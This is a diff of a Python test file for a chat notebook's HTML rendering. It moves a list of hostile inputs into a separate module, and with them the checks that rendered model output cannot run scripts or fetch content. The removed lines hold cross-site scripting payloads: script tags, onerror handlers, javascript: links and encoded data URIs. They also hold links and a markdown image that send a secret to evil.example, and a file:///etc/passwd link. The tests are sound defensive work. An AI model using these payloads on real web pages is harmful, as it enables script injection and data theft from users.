@@ -1,183 +1,29 @@
-"""Rendering: what is said looks right, and nothing that is said can run or fetch."""
+"""Rendering: what is said looks right; that it is harmless is in `test_hostile.py`."""
 
 import re
 from dataclasses import replace
 from html import unescape
-from html.parser import HTMLParser
 
 import pytest
+from hostile import notices
 
 from nbchat.events import (
     Change,
     CompactionChanged,
-    CompactionFailed,
-    CompactionSkipped,
-    CompactionStarted,
     CompactionUndone,
     PinsChanged,
-    SavingFailed,
-    TurnFailed,
 )
 from nbchat.history import FAILED, INCOMPLETE, Compaction, Entry, Usage
 from nbchat.markdown import _host, displayable, markdown_html, pygments_css
 from nbchat.render import (
     OUTPUT_LIMIT,
     PREVIEW_LIMIT,
-    Notice,
     compaction_html,
     compaction_text,
     entry_html,
-    note_html,
     notice_html,
     notice_text,
-    summary_html,
-    text_html,
 )
-
-HOSTILE = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)><path/></svg>",
-    "<iframe src=https://evil.example></iframe>",
-    "<object data=https://evil.example></object><embed src=https://evil.example>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<style>@import 'https://evil.example/x.css'</style>",
-    "<base href=https://evil.example/>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<form action=https://evil.example><input name=a><button>go</button></form>",
-    "<video src=https://evil.example/v autoplay></video>",
-    "<a href='javascript:alert(1)'>x</a>",
-    "<div style='background:url(https://evil.example/x)'>x</div>",
-    "<details open ontoggle=alert(1)>x</details>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    '"><img src=x onerror=alert(1)>',
-    "' onmouseover='alert(1)",
-    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
-    "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](java\tscript:alert(1))",
-    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[x](vbscript:msgbox(1)) [y](file:///etc/passwd) [z](blob:https://a/b)",
-    "[x](/lab/api/shutdown) [y](//evil.example/x) [z](api/kernels?token=1)",
-    "[x](&#106;avascript:alert(1)) <javascript:alert(1)>",
-    "![secret](https://evil.example/?q=secret)",
-    "![s][1]\n\n[1]: https://evil.example/?q=secret",
-    "![d](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
-    "[![nested](https://evil.example/a.png)](https://evil.example/b)",
-    "```<img src=x onerror=alert(1)>\ncode\n```",
-    "```html\n<script>alert(1)</script><img src=https://evil.example>\n```",
-    '[x](https://a.example "\\" onmouseover=alert(1)") <b onclick=alert(1)>b</b>',
-    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
-    "x\ud800<img src=x onerror=alert(1)>\x00</pre></details></article>",
-]
-
-TAGS = {
-    *("article", "div", "details", "summary", "span", "pre", "code", "p", "a", "em"),
-    *("strong", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td", "br"),
-    *("blockquote", "hr", "s", "h1", "h2", "h3", "h4", "h5", "h6"),
-}
-
-ATTRIBUTES = {
-    *("class", "aria-label", "data-call", "data-state", "data-language", "href"),
-    *("rel", "target", "style", "start"),
-}
-
-ROLES = ["user", "assistant", "tool", "thinking", "summary", "what's <this>"]
-
-
-class Elements(HTMLParser):
-    """Every element of a document, as a browser would see it."""
-
-    def __init__(self, html: str) -> None:
-        super().__init__()
-        self.found: list[tuple[str, dict[str, str | None]]] = []
-        self.feed(html)
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        self.found.append((tag, dict(attrs)))
-
-
-def assert_harmless(html: str) -> None:
-    """Only known elements and attributes, and links only to where a click may lead."""
-    html.encode()
-    for tag, attributes in Elements(html).found:
-        assert tag in TAGS
-        assert set(attributes) <= ATTRIBUTES
-        assert re.fullmatch(
-            r"(text-align:(left|center|right))?", attributes.get("style") or ""
-        )
-        if "href" in attributes:
-            assert re.match(r"(https?://|mailto:)", attributes["href"] or "")
-        if tag == "a":
-            assert attributes["rel"] == "noopener noreferrer"
-            assert attributes["target"] == "_blank"
-
-
-@pytest.mark.parametrize("payload", HOSTILE, ids=range(len(HOSTILE)))
-def test_nothing_runs_or_is_fetched_whatever_a_model_writes(payload: str) -> None:
-    assert_harmless(markdown_html(payload))
-    assert_harmless(text_html(payload))
-    assert_harmless(note_html(payload))
-
-
-def test_a_folded_banner_begins_with_the_first_words_of_the_story() -> None:
-    story = "**Ann** has a `DESK-7`.\n\n- printers &lt;facts> " + "word " * 100
-    summary = f"<summary>\n{story}\n</summary>\n<facts>\nseat 4\n</facts>"
-    html = compaction_html(Compaction("c", 0, 2, summary))
-    preview = html.partition('"nbc-banner-preview">')[2].partition("</span>")[0]
-    assert preview.startswith("Ann has a DESK-7. printers &lt;facts&gt; word word")
-    assert len(unescape(preview)) == PREVIEW_LIMIT + 1
-    assert "seat 4" not in preview
-
-
-def test_a_banner_without_a_story_has_no_preview() -> None:
-    pruning = Compaction("c", 0, 2, "", kind="pruning")
-    for record in (pruning, Compaction("c", 0, 2, "", status="failed")):
-        assert "nbc-banner-preview" not in compaction_html(record)
-
-
-@pytest.mark.parametrize("payload", HOSTILE, ids=range(len(HOSTILE)))
-def test_nothing_runs_in_the_preview_of_a_summary(payload: str) -> None:
-    assert_harmless(
-        compaction_html(Compaction("c", 0, 2, f"<summary>{payload}</summary>"))
-    )
-    assert_harmless(
-        summary_html(f"<summary>{payload}</summary><facts>{payload}</facts>")
-    )
-
-
-@pytest.mark.parametrize("role", ROLES)
-@pytest.mark.parametrize("payload", HOSTILE, ids=range(len(HOSTILE)))
-def test_nothing_runs_whatever_field_of_an_entry_it_is_in(
-    role: str, payload: str
-) -> None:
-    assert_harmless(entry_html(Entry(role, payload)))
-    assert_harmless(entry_html(Entry(role, payload, payload, payload, payload)))
-    arguments = '{"' + "<b onclick=alert(1)>" + '": "<script>alert(1)</script>"}'
-    assert_harmless(entry_html(Entry(role, payload, payload, payload, arguments)))
-
-
-@pytest.mark.parametrize("payload", HOSTILE, ids=range(len(HOSTILE)))
-def test_nothing_runs_whatever_an_error_or_summary_says(payload: str) -> None:
-    record = Compaction("c", 0, 1, payload, model=payload, reason=payload)
-    assert_harmless(compaction_html(record))
-    for event in notices(payload):
-        assert_harmless(notice_html(event))
-
-
-def notices(text: str) -> list[Notice]:
-    """One of each, saying `text`."""
-    record = Compaction("c", 0, 1, text, reason=text, status="failed")
-    return [
-        CompactionStarted(text, 1, 10),
-        CompactionSkipped(text),
-        CompactionFailed(record),
-        CompactionUndone(record),
-        CompactionChanged(record, "edited"),
-        PinsChanged((text,)),
-        SavingFailed(text),
-        TurnFailed(text),
-    ]
 
 
 def test_markdown_has_tables_lists_and_strikethrough() -> None:
@@ -385,3 +231,19 @@ def luminance(colour: str) -> float:
         for share in shares
     ]
     return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]
+
+
+def test_a_folded_banner_begins_with_the_first_words_of_the_story() -> None:
+    story = "**Ann** has a `DESK-7`.\n\n- printers &lt;facts> " + "word " * 100
+    summary = f"<summary>\n{story}\n</summary>\n<facts>\nseat 4\n</facts>"
+    html = compaction_html(Compaction("c", 0, 2, summary))
+    preview = html.partition('"nbc-banner-preview">')[2].partition("</span>")[0]
+    assert preview.startswith("Ann has a DESK-7. printers &lt;facts&gt; word word")
+    assert len(unescape(preview)) == PREVIEW_LIMIT + 1
+    assert "seat 4" not in preview
+
+
+def test_a_banner_without_a_story_has_no_preview() -> None:
+    pruning = Compaction("c", 0, 2, "", kind="pruning")
+    for record in (pruning, Compaction("c", 0, 2, "", status="failed")):
+        assert "nbc-banner-preview" not in compaction_html(record)
